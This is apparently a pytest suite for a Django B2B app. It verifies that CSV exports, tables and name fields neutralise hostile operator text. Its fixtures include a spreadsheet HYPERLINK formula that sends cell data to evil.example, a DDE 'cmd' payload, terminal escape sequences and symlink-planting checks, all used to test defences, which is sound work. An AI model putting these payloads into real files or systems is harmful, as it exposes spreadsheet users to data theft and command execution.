"""Operator text that tries to be more than text: formulas in CSV exports, rich markup in tables,
invisible characters in names, links planted beside the codes CSV."""

import csv
import io
import json
import os
import stat

import pytest
from django.core.management.base import CommandError

from b2b.exceptions import InvalidContractInput
from b2b.models import ContractPage, OrganizationPage
from b2b.services.contracts import contract_modify
from tests.b2b.helpers import codes_of, make_contract
from tests.factories import MembershipFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.fixture
def hostile(wagtail_site, catalog, run_command):
    """An organization and a contract named as an attacker would, with a course on it."""
    contract = make_contract(
        run_command, "@SUM(1+1)*cmd|' /C calc'!A0", "non-sso", "--max-learners", "2",
        org=FORMULA, key="EVIL",
    )  # fmt: skip
    run_command("b2b_courseware", "add", str(contract.pk), catalog.data.readable_id)
    return contract


# -- CSV ---------------------------------------------------------------------------------------


def test_every_csv_listing_neutralises_formulas(hostile, run_command):
    organizations = list(
        csv.reader(io.StringIO(run_command("b2b_list", "organizations", "--format", "csv").stdout))
    )
    assert organizations == [
        ["id", "name", "org_key", "slug", "sso_organization_id", "contracts"],
        [
            str(hostile.organization_id),
            f"'{FORMULA}",
            "EVIL",
            "hyperlinkhttpevilexamplea1open",
            "",
            "1",
        ],
    ]
    contracts = list(
        csv.reader(io.StringIO(run_command("b2b_list", "contracts", "--format", "csv").stdout))
    )
    assert [(row[1], row[4]) for row in contracts[1:]] == [
        ("'@SUM(1+1)*cmd|' /C calc'!A0", f"'{FORMULA}")
    ]
    courseware = run_command(
        "b2b_list", "courseware", "--contract", str(hostile.pk), "--format", "csv"
    ).stdout
    assert "=HYPERLINK" not in courseware.replace("'=HYPERLINK", "")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Acme = best", "Acme = best"),
        ("", ""),
    ],
)
def test_the_csv_writer_prefixes_what_a_spreadsheet_would_evaluate(text, cell):
    from main.exports import csv_writer

    buffer = io.StringIO()
    csv_writer(buffer, lineterminator="\n").writerow([text, -3, 12])
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [[cell, "-3", "12"]]
    assert buffer.getvalue().endswith(",-3,12\n")


def test_the_codes_csv_product_column_never_starts_with_a_formula(
    hostile, run_command, tmp_path, monkeypatch, settings
):
    settings.SITE_BASE_URL = "https://learn.example.edu"
    monkeypatch.chdir(tmp_path)
    run_command("b2b_list", "contracts", "--codes", str(hostile.pk))

    raw = (tmp_path / f"codes-{hostile.pk}.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"))))
    product = hostile.course_runs.get().products.get()
    assert product.description.startswith("=HYPERLINK")
    assert rows[1:] == [
        [
            code.discount_code,
            f"'{product.description}",
            "No",
            f"https://learn.example.edu/cart/add/?product_id={product.pk}",
        ]
        for code in codes_of(product)
    ]
    # RFC 4180 as before: the quoted cell, CRLF line ends.
    assert (
        raw.split(b"\r\n")[1]
        == (
            f'{rows[1][0]},"\'{product.description.replace(chr(34), chr(34) * 2)}",No,'
            f"https://learn.example.edu/cart/add/?product_id={product.pk}"
        ).encode()
    )


def test_b2b_check_csv_is_neutralised_too(hostile, run_command):
    from main.commands import DomainCommand

    out = io.StringIO()
    command = DomainCommand(stdout=out)
    command.emit_rows(
        [{"contract": "=cmd", "message": "-2+3"}], fmt="csv", columns=("contract", "message")
    )
    assert out.getvalue() == "contract,message\n'=cmd,'-2+3\n"


# -- rich tables -------------------------------------------------------------------------------

MARKUP = "Acme [/b] [link=https://evil.example]click[/link] [bold red]:smile:"


def test_names_with_rich_markup_are_shown_literally_in_tables(wagtail_site, catalog, run_command):
    contract = make_contract(run_command, "C [/]", "sso", org=MARKUP, key="MARKUP")

    organizations = run_command("b2b_list", "organizations").stdout
    contracts = run_command("b2b_list", "contracts").stdout

    assert MARKUP in organizations
    assert "C [/]" in contracts
    assert MARKUP in contracts
    out = run_command("b2b_organization", "modify", str(contract.organization_id), "--name", "[/i]")
    assert "[/i]" in out.stdout


def test_a_code_shown_with_a_markup_product_is_literal(hostile, run_command):
    product = hostile.course_runs.get().products.get()
    product.description = "[/b] [link=https://evil.example]x"
    product.save()
    code = codes_of(product)[0].discount_code

    out = run_command("b2b_codes", "show", code).stdout

    assert "[/b] [link=https://evil.example]x" in out


ESCAPES = "Eve\x1b[2J\x1b]8;;https://evil.example/\x1b\\pay\x1b]8;;\x07\x9b31m\u202eexe.pdf\x7f"


def test_a_learners_terminal_escapes_are_shown_not_run_in_tables(hostile, run_command):
    learner = UserFactory(username="eve", email="eve@example.edu", name=ESCAPES)
    MembershipFactory(user=learner, contract=hostile)

    table = run_command("b2b_list", "learners", "--contract", str(hostile.pk)).stdout

    assert not any(ord(char) < 0x20 and char != "\n" for char in table)
    assert not any(0x7F <= ord(char) <= 0x9F or char == "\u202e" for char in table)
    shown = (
        "Eve\\x1b[2J\\x1b]8;;https://evil.example/\\x1b\\pay\\x1b]8;;\\x07\\x9b31m"
        "\\u202eexe.pdf\\x7f"
    )
    assert shown in table
    # JSON keeps the name exactly (escaped by JSON itself).
    out = run_command("b2b_list", "learners", "--contract", str(hostile.pk), "--format", "json")
    assert [row["name"] for row in json.loads(out.stdout)] == [ESCAPES]


# -- the codes CSV's file ------------------------------------------------------------------------


def test_a_planted_partial_link_never_redirects_the_codes_csv(
    hostile, run_command, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    victim_mode = stat.S_IMODE(os.stat(victim).st_mode)
    (tmp_path / ".codes.csv.partial").symlink_to(victim)
    (tmp_path / f".codes-{hostile.pk}.csv.partial").symlink_to(victim)

    run_command("b2b_list", "contracts", "--codes", str(hostile.pk), "--codes-out", "codes.csv")
    run_command("b2b_list", "contracts", "--codes", str(hostile.pk))

    assert victim.read_text() == "keep me"
    assert stat.S_IMODE(os.stat(victim).st_mode) == victim_mode
    for name in ("codes.csv", f"codes-{hostile.pk}.csv"):
        info = os.lstat(tmp_path / name)
        assert (stat.S_ISREG(info.st_mode), stat.S_IMODE(info.st_mode)) == (True, 0o600)
        assert (tmp_path / name).read_bytes().startswith(b"Code,Product,Redeemed,Product URL\r\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [".codes.csv.partial", f".codes-{hostile.pk}.csv.partial", "codes.csv",
         f"codes-{hostile.pk}.csv", "victim.txt"]
    )  # fmt: skip
    assert (tmp_path / ".codes.csv.partial").readlink() == victim


def test_the_temporary_file_is_created_exclusively_never_through_a_link(
    hostile, run_command, tmp_path, monkeypatch
):
    # Whatever name the temporary file gets, a link already there is never opened.
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("main.exports.secrets.token_hex", lambda n: "f" * (2 * n))
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    planted = tmp_path / f".codes.csv.{'f' * 16}.partial"
    planted.symlink_to(victim)

    with pytest.raises(CommandError) as refusal:
        run_command("b2b_list", "contracts", "--codes", str(hostile.pk), "--codes-out", "codes.csv")

    assert str(refusal.value) == "Cannot write codes.csv: File exists."
    assert victim.read_text() == "keep me"
    assert planted.is_symlink()
    assert not (tmp_path / "codes.csv").exists()


def test_a_dangling_link_as_target_is_refused_and_left(hostile, run_command, tmp_path):
    target = tmp_path / "codes.csv"
    target.symlink_to(tmp_path / "elsewhere.csv")

    with pytest.raises(CommandError) as refusal:
        run_command("b2b_list", "contracts", "--codes", str(hostile.pk), "--codes-out", str(target))

    assert str(refusal.value) == (
        f"--codes-out {target} exists and is not a regular file (a device or a link): give the "
        "name of a new or ordinary file."
    )
    assert target.is_symlink() and not (tmp_path / "elsewhere.csv").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["codes.csv"]


def test_a_failed_export_leaves_no_file_behind(hostile, tmp_path, monkeypatch):
    from b2b.services.codes import export as codes_export

    def broken(contract):
        yield ("a", "b", "No", "c")
        raise RuntimeError("the database went away")

    monkeypatch.setattr(codes_export, "contract_codes_rows", broken)
    (tmp_path / "codes.csv").write_text("the old export")

    with pytest.raises(RuntimeError):
        codes_export.codes_csv_write(hostile, tmp_path / "codes.csv")

    assert sorted(p.name for p in tmp_path.iterdir()) == ["codes.csv"]
    assert (tmp_path / "codes.csv").read_text() == "the old export"


# -- names ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("hidden", "label"),
    [
        ("\u200b", "U+200B ZERO WIDTH SPACE"),
        ("\u200f", "U+200F RIGHT-TO-LEFT MARK"),
        ("\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("\u2066", "U+2066 LEFT-TO-RIGHT ISOLATE"),
        ("\ufeff", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
        ("\u00ad", "U+00AD SOFT HYPHEN"),
        ("\u034f", "U+034F COMBINING GRAPHEME JOINER"),
        ("\u3164", "U+1160 HANGUL JUNGSEONG FILLER"),  # NFKC makes the filler U+1160
        ("\u2800", "U+2800 BRAILLE PATTERN BLANK"),
        ("\ufe0f", "U+FE0F VARIATION SELECTOR-16"),
        ("\ue000", "U+E000 an unnamed character"),  # private use
    ],
)
def test_names_with_invisible_or_direction_characters_are_refused(
    wagtail_site, catalog, run_command, unchanged, hidden, label
):
    make_contract(run_command, "C", "sso", org="UniversityX", key="UX")
    message = (
        f"The organization name contains an invisible or text-direction character ({label}): "
        "type the name again without it, so it reads as it is stored."
    )
    with unchanged(), pytest.raises(CommandError) as refusal:
        run_command(
            "b2b_contract", "create", f"UniversityX{hidden}", "C", "sso", "--create",
            "--org-key", "UX2",
        )  # fmt: skip
    assert str(refusal.value) == message
    organization = OrganizationPage.objects.get()
    with unchanged(), pytest.raises(CommandError) as refusal:
        run_command("b2b_organization", "modify", str(organization.pk), "--name", f"Uni{hidden}X")
    assert str(refusal.value) == message
    with unchanged(), pytest.raises(CommandError) as refusal:
        run_command("b2b_contract", "create", "UniversityX", f"C{hidden}2", "sso")
    assert str(refusal.value) == message.replace("organization name", "contract name")
    contract = ContractPage.objects.get()
    with unchanged(), pytest.raises(InvalidContractInput) as refused:
        contract_modify(contract.pk, name=f"C{hidden}2")
    assert refused.value.message == message.replace("organization name", "contract name")


def test_names_are_stored_in_nfkc_so_lookalikes_are_one_name(
    wagtail_site, catalog, run_command, unchanged
):
    contract = make_contract(run_command, "Ｆａｌｌ　２０２６", "sso", org="UniversityX", key="UX")
    assert (contract.name, contract.title) == ("Fall 2026", "Fall 2026")

    # The full-width spelling is the same organization: found, not created again.
    out = run_command("b2b_contract", "create", "ＵｎｉｖｅｒｓｉｔｙＸ", "Spring", "sso")
    assert ContractPage.objects.get(pk=int(out.stdout)).organization_id == contract.organization_id
    with unchanged(), pytest.raises(CommandError) as refusal:
        run_command(
            "b2b_contract", "create", "ＵｎｉｖｅｒｓｉｔｙＸ", "C", "sso", "--create",
            "--org-key", "UX2",
        )  # fmt: skip
    assert str(refusal.value) == (
        "Organization 'UniversityX' already exists with org key 'UX', not 'UX2': drop --create "
        "to use it, or give a different name for a new organization."
    )
    other = make_contract(run_command, "C", "sso", org="Other", key="OTHER")
    with unchanged(), pytest.raises(CommandError) as refusal:
        run_command(
            "b2b_organization",
            "modify",
            str(other.organization_id),
            "--name",
            "ＵｎｉｖｅｒｓｉｔｙＸ",
        )
    assert str(refusal.value) == (
        f"An organization named 'UniversityX' already exists (ID {contract.organization_id}): "
        "give this one a different name."
    )


def test_runs_of_spaces_are_one_space_so_spacing_makes_no_second_name(
    wagtail_site, catalog, run_command, unchanged
):
    contract = make_contract(run_command, "Fall\u3000 2026", "sso", org="University X", key="UX")
    assert (contract.name, contract.title) == ("Fall 2026", "Fall 2026")

    # Doubled, non-breaking or ogham spaces name the same organization: found, not created.
    for spelled in ("University  X", "University\u00a0X", " University \u1680 X "):
        out = run_command("b2b_contract", "create", spelled, f"C{len(spelled)}", "sso")
        created = ContractPage.objects.get(pk=int(out.stdout))
        assert created.organization_id == contract.organization_id
    with unchanged(), pytest.raises(CommandError) as refusal:
        run_command(
            "b2b_contract", "create", "University   X", "C", "sso", "--create",
            "--org-key", "UX2",
        )  # fmt: skip
    assert str(refusal.value) == (
        "Organization 'University X' already exists with org key 'UX', not 'UX2': drop --create "
        "to use it, or give a different name for a new organization."
    )
    other = make_contract(run_command, "C", "sso", org="Other", key="OTHER")
    with unchanged(), pytest.raises(CommandError) as refusal:
        run_command(
            "b2b_organization", "modify", str(other.organization_id), "--name", "University  X"
        )
    assert str(refusal.value) == (
        f"An organization named 'University X' already exists (ID {contract.organization_id}): "
        "give this one a different name."
    )
    # A tab inside a name is still refused, not turned into a space.
    with unchanged(), pytest.raises(CommandError) as refusal:
        run_command("b2b_contract", "create", "University X", "Fall\t2027", "sso")
    assert str(refusal.value) == (
        "The contract name contains a tab, a line break or another control character: "
        "give it on one line."
    )


def test_a_contract_with_an_old_invisible_name_still_takes_other_changes(
    wagtail_site, catalog, run_command
):
    contract = make_contract(run_command, "C", "sso", org="UniversityX", key="UX")
    ContractPage.objects.filter(pk=contract.pk).update(name="C\u200b")

    run_command("b2b_contract", "modify", str(contract.pk), "--description", "Renewed")

    contract.refresh_from_db()
    assert (contract.name, contract.description) == ("C\u200b", "Renewed")


# -- names in the Wagtail editor -------------------------------------------------------------------

ZWSP_MESSAGE = (
    "The {what} name contains an invisible or text-direction character (U+200B ZERO WIDTH "
    "SPACE): type the name again without it, so it reads as it is stored."
)


@pytest.fixture
def editor(client, wagtail_site, admin_user):
    client.force_login(admin_user)
    return client


def _field_errors(response, field: str) -> list[str]:
    return [str(e) for e in response.context["form"].errors.get(field, [])]


def test_the_editor_refuses_invisible_names_and_stores_nfkc(editor, run_command):
    from b2b.models import OrganizationIndexPage
    from tests.b2b.staff import contract_form, organization_form

    contract = make_contract(run_command, "C", "sso", org="UniversityX", key="UX")
    index = OrganizationIndexPage.objects.get()
    add_org = f"/cms/pages/add/b2b/organizationpage/{index.pk}/"
    add_contract = f"/cms/pages/add/b2b/contractpage/{contract.organization_id}/"

    response = editor.post(
        add_org,
        {**organization_form(name="UniversityX\u200b", org_key="UX2"), "action-publish": "1"},
    )
    assert response.status_code == 200
    assert _field_errors(response, "name") == [ZWSP_MESSAGE.format(what="organization")]
    response = editor.post(
        add_org,
        {**organization_form(name="ＵｎｉｖｅｒｓｉｔｙＸ", org_key="UX2"), "action-publish": "1"},
    )
    assert _field_errors(response, "name") == [
        f"An organization named 'UniversityX' already exists (ID {contract.organization_id}): "
        "give this one a different name."
    ]
    response = editor.post(
        add_contract, {**contract_form(name="Spring\u200b"), "action-publish": "1"}
    )
    assert _field_errors(response, "name") == [ZWSP_MESSAGE.format(what="contract")]
    response = editor.post(
        f"/cms/pages/{contract.pk}/copy/",
        {"new_title": "C\u200b2", "new_slug": "c-2", "new_parent_page": contract.organization_id},
    )
    assert _field_errors(response, "new_title") == [ZWSP_MESSAGE.format(what="contract")]
    assert (OrganizationPage.objects.count(), ContractPage.objects.count()) == (1, 1)

    response = editor.post(
        add_contract, {**contract_form(name="Ｓｐｒｉｎｇ　２０２７ "), "action-publish": "1"}
    )
    assert response.status_code == 302
    new = ContractPage.objects.exclude(pk=contract.pk).get()
    assert (new.name, new.title) == ("Spring 2027", "Spring 2027")
